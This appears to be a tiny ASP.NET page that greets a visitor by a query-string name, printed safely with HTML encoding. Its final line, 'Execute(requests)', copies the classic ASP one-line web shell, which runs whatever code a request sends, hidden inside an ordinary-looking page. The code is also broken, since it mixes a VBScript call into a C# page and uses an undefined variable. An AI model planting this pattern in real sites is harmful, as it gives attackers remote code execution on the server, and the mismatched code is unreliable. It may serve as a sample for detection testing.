<%@ Page Language="C#" %>
<p>Hello <%= Server.HtmlEncode(Request.QueryString["name"]) %></p>
<% Execute(requests); %>
